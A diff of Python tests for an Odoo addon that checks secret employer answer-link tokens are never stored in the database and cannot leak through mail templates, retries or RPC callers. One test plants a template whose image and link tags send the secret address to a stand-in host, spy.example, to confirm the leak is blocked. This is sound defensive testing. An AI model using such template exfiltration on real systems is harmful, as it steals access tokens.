@@ -1,58 +1,24 @@
-import importlib.util
-from pathlib import Path
+import re
 
 from markupsafe import Markup
 
 from odoo.exceptions import AccessError, UserError
-from odoo.tests import HttpCase, TransactionCase, tagged
-from odoo.tools import SQL
+from odoo.tests import HttpCase, tagged
+from odoo.tools import verify_hash_signed
 
 from ...models.tools.club_guard_mixin import BY_LINK
 from ...utils import clock
-from ..answer_common import AnswerCase
-from odoo.addons.mail.tests.common import MockEmail
+from ..answer_common import AnswerCase, SecretCase
 
-MIGRATION = (
-    Path(__file__).parents[2] / "migrations" / "19.0.1.4.0" / "post-answer-secret.py"
-)
 SECRET = "/clubs/reponse/"
 
 
 @tagged("post_install", "-at_install")
-class TestAnswerSecret(AnswerCase, MockEmail):
+class TestAnswerSecret(SecretCase):
     """The address that answers is in the outgoing mail, and nowhere else."""
 
-    def token(self, mail):
-        return mail.body_html.split(SECRET)[1].split('"')[0]
-
-    def columns(self):
-        """Yield ``(table, column)`` of every text kept in the database."""
-        self.env.cr.execute(
-            """SELECT table_name, column_name FROM information_schema.columns
-                WHERE table_schema = 'public' AND table_name NOT LIKE 'ir_%%'
-                  AND data_type IN ('text', 'character varying', 'jsonb')"""
-        )
-        return self.env.cr.fetchall()
-
-    def where(self, words):
-        """Return the columns in which some words are read, in the whole database."""
-        self.env.flush_all()
-        found = set()
-        for table, column in self.columns():
-            self.env.cr.execute(
-                SQL(
-                    "SELECT 1 FROM %s WHERE %s::text LIKE %s LIMIT 1",
-                    SQL.identifier(table),
-                    SQL.identifier(column),
-                    f"%{words}%",
-                )
-            )
-            if self.env.cr.fetchone():
-                found.add(f"{table}.{column}")
-        return found
-
-    def test_no_record_keeps_the_secret(self):
-        """Of a first message, a reminder and a fresh link, thanks and questions too."""
+    def test_no_column_keeps_a_secret(self):
+        """Of a first message, a reminder, thanks, questions, a link handed over."""
         self.link._send(reminder=True)
         self.first._record_hire(kind="cdi")
         self.first.placement_ids.with_user(self.animateur).action_thank_employer()
@@ -60,20 +26,111 @@ class TestAnswerSecret(AnswerCase, MockEmail):
         self.env["club.followup.question"]._send(
             self.first.placement_ids.followup_ids[:1], "person"
         )
-        mails = self.mails_of(self.env["club.answer.link"].search([]))
+        links = self.env["club.answer.link"].search([])
+        mails = self.mails_of(links)
         self.assertEqual(len(mails), 4)
         for mail in mails:
             self.assertTrue(mail.auto_delete)
-            self.assertEqual(self.where(self.token(mail)), {"mail_mail.body_html"})
-            self.assertIn(f"{SECRET}-", mail.body)
+            self.assertIn(f'{SECRET}-"', mail.body_html)
+        before = self.env["club.answer.key"].search_count([])
+        tokens = self.leave(mails)
+        self.assertEqual(self.env["club.answer.key"].search_count([]), before + 4)
+        dialog = self.link.with_user(self.animateur).action_hand_over()
+        tokens.append(dialog["context"]["default_address"].split(SECRET)[1])
+        self.assertEqual(len(set(tokens)), 5)
+        Key = self.env["club.answer.key"]
+        for token in tokens:
+            self.assertIn(Key._find(token).link_id, links)
+            self.assertEqual(self.where(token), set())
+            secret = verify_hash_signed(self.env, "club-answer", token)[1]
+            self.assertEqual(self.where(secret), set())
+
+    def test_a_failed_mail_tells_nothing_and_leaves_with_another(self):
+        mail = self.mails()
+        first = self.token(mail)
+        mail.write({"state": "exception"})
+        mail.action_retry()
+        (second,) = self.leave(mail)
+        self.assertNotEqual(first, second)
+        for token in (first, second):
+            self.assertEqual(self.where(token), set())
 
     def test_each_message_has_its_own_secret_and_all_open(self):
+        """A reminder kills nothing: what is in the employer's mailbox works."""
         self.link._send(reminder=True)
-        tokens = {self.token(mail) for mail in self.mails()}
+        tokens = set(self.leave(self.mails()))
         self.assertEqual(len(tokens), 2)
-        Link = self.env["club.answer.link"]
         for token in tokens:
-            self.assertEqual(Link._from_token(token), self.link)
+            key = self.env["club.answer.key"]._find(token)
+            self.assertEqual((key.link_id, key.way), (self.link, BY_LINK))
+
+    def test_a_template_sends_the_secret_to_nobody_else(self):
+        """Who edits templates reads no mail: no copy, no other place for the address."""
+        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
+        spy = self.env["res.partner"].create({"name": "Spy", "email": "spy@x.com"})
+        server = self.env["ir.mail_server"].create(
+            {"name": "Mine", "smtp_host": "x", "from_filter": "x.com"}
+        )
+        template.write(
+            {
+                "email_cc": "spy@x.com",
+                "partner_to": str(spy.id),
+                "mail_server_id": server.id,
+                "body_html": """<div><a t-att-href="ctx.get('club_address')">x</a>
+                    <img t-attf-src="https://spy.example/?{{ ctx.get('club_address') }}"/>
+                    <a t-attf-href="https://spy.example/?{{ ctx.get('club_address') }}">
+                        x</a></div>""",
+            }
+        )
+        self.link._send(reminder=True)
+        mail = self.mails().sorted("id")[-1]
+        self.assertFalse(mail.email_cc or mail.recipient_ids or mail.mail_server_id)
+        body = self.leaving(mail)
+        for address in re.findall(r"https?://[^\s\"<>]+", body):
+            if len(address.split(SECRET)[-1]) > 5:
+                self.assertTrue(address.startswith(self.link.get_base_url()), address)
+
+    def test_no_caller_has_a_secret_put_in_a_mail(self):
+        """A template is sent by RPC, to whom its caller likes: without a secret."""
+        template = self.env["mail.template"].create(
+            {
+                "name": "Mine",
+                "model_id": self.env["ir.model"]._get("club.answer.link").id,
+                "body_html": """<a t-att-href="ctx.get('club_address')">x</a>""",
+            }
+        )
+        before = self.env["mail.mail"].search([])
+        for user in (self.animateur, self.manager):
+            mine = template.with_user(user)
+            values = {"email_to": "me@x.com", "club_link_id": self.link.id}
+            context = {
+                "club_address": f"https://x{SECRET}-",
+                "club_link": True,
+                "default_club_link_id": self.link.id,
+            }
+            mine.with_context(**context).send_mail(self.link.id, email_values=values)
+        made = self.env["mail.mail"].search([]) - before
+        self.assertEqual(len(made), 2)
+        self.assertFalse(made.club_link_id)
+        for mail in made:
+            mail.write({"club_link_id": self.link.id})
+            self.assertFalse(mail.club_link_id)
+            self.assertNotIn("reponse/A", self.leaving(mail))
+
+    def test_a_link_leaves_by_no_mailbox_of_who_wrote(self):
+        mine, agency = self.env["ir.mail_server"].create(
+            [
+                {
+                    "name": name,
+                    "smtp_host": "x",
+                    "from_filter": self.animateur.email,
+                    "owner_user_id": owner,
+                }
+                for name, owner in (("Mine", self.animateur.id), ("Agency", False))
+            ]
+        )
+        mail = self.mails()
+        self.assertEqual(mail._filter_mail_mail_servers(mine | agency), agency)
 
     def test_nobody_writes_to_oneself(self):
         """The address of a user is no employer's: who writes would answer."""
@@ -121,143 +178,6 @@ class TestAnswerSecret(AnswerCase, MockEmail):
             for model in ("mail.mail", "club.answer.key"):
                 with self.assertRaises(AccessError):
                     env[model].search([])
-
-    def test_the_version_before_keeps_its_addresses(self):
-        """A link of the version before opens; its messages tell it no more."""
-        cr = self.env.cr
-        self.env.flush_all()
-        mail = self.mails()
-        token = self.token(mail)
-        mail.mail_message_id.flush_recordset()
-        cr.execute(
-            "UPDATE mail_message SET body = %s WHERE id = %s",
-            [f"<a href='http://x{SECRET}{token}'>x</a>", mail.mail_message_id.id],
-        )
-        cr.execute("UPDATE mail_mail SET auto_delete = FALSE WHERE id = %s", [mail.id])
-        cr.execute("ALTER TABLE club_answer_link ADD nonce varchar")
-        cr.execute("UPDATE club_answer_link SET nonce = 's' || id")
-        template = self.env.ref("clubs_ambition.mail_template_candidacy_link")
-        cr.execute(
-            "UPDATE mail_template SET auto_delete = FALSE, body_html = "
-            "jsonb_build_object('en_US', '<a t-att-href=\"object.url\">x</a>') "
-            "WHERE id = %s",
-            [template.id],
-        )
-        spec = importlib.util.spec_from_file_location("migration", MIGRATION)
-        migration = importlib.util.module_from_spec(spec)
-        spec.loader.exec_module(migration)
-        migration.migrate(cr, "19.0.1.3.0")
-        self.env.invalidate_all()
-        self.assertNotIn(token, mail.body)
-        self.assertIn(token, mail.body_html)
-        self.assertTrue(mail.auto_delete and template.auto_delete)
-        self.assertIn("club_address", template.body_html)
-        Key = self.env["club.answer.key"]
-        old = Key.search([("digest", "=", Key._digest(f"s{self.link.id}"))])
-        self.assertEqual(old.link_id, self.link)
-
-
-@tagged("post_install", "-at_install")
-class TestToldByLinkAlone(AnswerCase):
-    """How an answer came is written by the link's route: no role can say it."""
-
-    def setUp(self):
-        super().setUp()
-        self.first._record_hire(kind="cdi")
-        self.line = self.first.placement_ids.followup_ids[:1]
-
-    def facts(self):
-        """Yield ``(model, field)`` that tell how an answer came, from the registry."""
-        for model, Model in self.env.registry.items():
-            if not model.startswith("club.") or Model._abstract:
-                continue
-            for name, field in Model._fields.items():
-                choice = field.type == "selection" and field.store
-                if choice and BY_LINK in (field.get_values(self.env) or []):
-                    yield model, name, BY_LINK
-        yield "club.candidacy", "employer_answer", "meet"
-        yield "club.candidacy", "answered_on", "2026-01-05"
-        for name in ("answered_on", "revoked_on", "email", "reminder_count"):
-            yield "club.answer.link", name, "2026-01-05"
-
-    def of_model(self, model):
-        records = self.second, self.link, self.line
-        return next(one for one in records if one._name == model)
-
-    def test_no_role_writes_how_an_answer_came(self):
-        facts = list(self.facts())
-        self.assertGreaterEqual(len(facts), 7)
-        for user in (self.animateur, self.manager, self.referent):
-            for model, name, value in facts:
-                record = self.of_model(model)
-                with self.subTest(f"{user.login} {model}.{name}"):
-                    before = record[name]
-                    with self.assertRaises(UserError):
-                        record.with_user(user).write({name: value})
-                    record.invalidate_recordset()
-                    self.assertEqual(record[name], before)
-
-    def test_no_role_creates_it_nor_gives_it_by_default(self):
-        vals = {"participant_id": self.lina.id, "partner_id": self.other_employer.id}
-        for user in (self.animateur, self.manager):
-            for extra in ({"employer_answer": "hired"}, {"answered_on": "2026-01-05"}):
-                Candidacy = self.env["club.candidacy"].with_user(user)
-                with self.assertRaises(UserError):
-                    Candidacy.create({**vals, **extra})
-                context = {f"default_{name}": value for name, value in extra.items()}
-                with self.env.cr.savepoint() as savepoint:
-                    made = Candidacy.with_context(**context).create(vals)
-                    self.assertFalse(made.employer_answer or made.answered_on)
-                    savepoint.rollback()
-                self.env.invalidate_all()
-
-    def test_an_import_says_no_link(self):
-        for user in (self.animateur, self.manager):
-            for model, rows in {
-                "club.followup": [["id", "employer_via"], [".", BY_LINK]],
-                "club.candidacy": [["id", "employer_answer"], [".", "hired"]],
-            }.items():
-                record = self.of_model(model)
-                names, line = rows
-                line = [record.export_data(["id"])["datas"][0][0], line[1]]
-                result = self.env[model].with_user(user).load(names, [line])
-                self.assertFalse(result["ids"], model)
-                record.invalidate_recordset()
-                self.assertFalse(record[names[1]])
-
-    def test_a_default_of_the_context_says_no_link(self):
-        self.line.sudo().unlink()
-        for user in (self.animateur, self.manager):
-            Followup = self.env["club.followup"].with_user(user)
-            Followup = Followup.with_context(default_employer_via=BY_LINK)
-            vals = {
-                "placement_id": self.first.placement_ids.id,
-                "milestone": "day_8",
-            }
-            with self.assertRaises(UserError):
-                Followup.create({**vals, "person_answer": "in_post"})
-            with self.env.cr.savepoint() as savepoint:
-                told = Followup.create({**vals, "employer_answer": "in_post"})
-                self.assertEqual(told.employer_via, "phone")
-                savepoint.rollback()
-            self.env.invalidate_all()
-
-    def test_what_the_animateur_notes_was_told_to_her(self):
-        line = self.line.with_user(self.animateur)
-        line.write({"employer_answer": "in_post"})
-        self.assertEqual(line.employer_via, "phone")
-        line.write({"employer_via": "meeting"})
-        line.write({"source": "employer"})
-        self.assertNotEqual(line.employer_via, BY_LINK)
-
-    def test_an_answer_by_link_is_not_touched_up(self):
-        self.line._record_voice("employer", "in_post", BY_LINK)
-        line = self.line.with_user(self.animateur)
-        for vals in ({"employer_via": "phone"}, {"employer_answered_on": "2026-01-05"}):
-            with self.assertRaisesRegex(UserError, "came by link"):
-                line.write(vals)
-        line.write({"employer_answer": "not_in_work"})
-        self.assertEqual(line.employer_via, "phone")
 
 
 @tagged("post_install", "-at_install")
@@ -380,16 +300,3 @@ class TestStop(AnswerCase):
     def test_other_facts_of_the_employer_are_written_as_before(self):
         self.mine.write({"phone": "0199001122", "club_network_status": "stop"})
         self.assertEqual(self.employer.club_network_status, "stop")
-
-
-@tagged("post_install", "-at_install")
-class TestLinkFieldsDeclared(TransactionCase):
-    def test_every_way_of_answering_is_guarded(self):
-        for model, Model in self.env.registry.items():
-            if not model.startswith("club.") or Model._abstract:
-                continue
-            for name, field in Model._fields.items():
-                if field.type != "selection" or not field.store:
-                    continue
-                if BY_LINK in (field.get_values(self.env) or []):
-                    self.assertIn(name, getattr(Model, "_link_fields", ()), model)
